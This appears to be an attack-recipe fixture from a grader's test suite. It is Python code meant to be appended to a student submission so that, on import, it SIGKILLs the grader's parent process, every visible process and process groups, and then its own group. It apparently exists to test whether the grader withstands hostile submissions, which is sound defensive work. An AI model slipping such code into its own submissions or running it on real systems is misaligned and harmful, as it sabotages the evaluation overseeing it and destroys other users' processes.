"""Signals: killing the grader, every process and every process group it can see.

Not imported, not collected: tests/attack_recipes.py reads this file as text and splits it at
its `# ---- attack: <name>` lines. Each section is the code of one attack, appended (after the
prelude, prelude.py) to the cs231n/layers.py of one submission: at module level it runs at
import, and the functions it defines replace the stubs. Names starting with `_atk`, `_ATK` or
`_Atk` that a section does not define come from the prelude.
"""


# ---- attack: signals -----------------------------------------------------------------------------

def _atk_signal_everything(seconds=2.0):
    import signal
    if not _ATK_ARMED:
        return
    me, group = _atk_os.getpid(), _atk_os.getpgrp()
    end = _atk_time.monotonic() + seconds
    while _atk_time.monotonic() < end:
        for attempt in (lambda: _atk_os.kill(_atk_os.getppid(), signal.SIGKILL),
                        lambda: _atk_os.kill(-1, signal.SIGKILL)):
            try:
                attempt()
            except OSError:
                pass
        for entry in _atk_os.listdir("/proc"):
            if not entry.isdigit() or int(entry) == me:
                continue
            try:
                _atk_os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
            try:
                target = _atk_os.getpgid(int(entry))
                if target != group:
                    _atk_os.killpg(target, signal.SIGKILL)
            except OSError:
                pass
        for target in range(1, 64):
            if target != group:
                try:
                    _atk_os.killpg(target, signal.SIGKILL)
                except OSError:
                    pass
        _atk_time.sleep(0.05)
    _atk_os.killpg(0, signal.SIGKILL)  # last, its own group (itself included)


_atk_signal_everything()
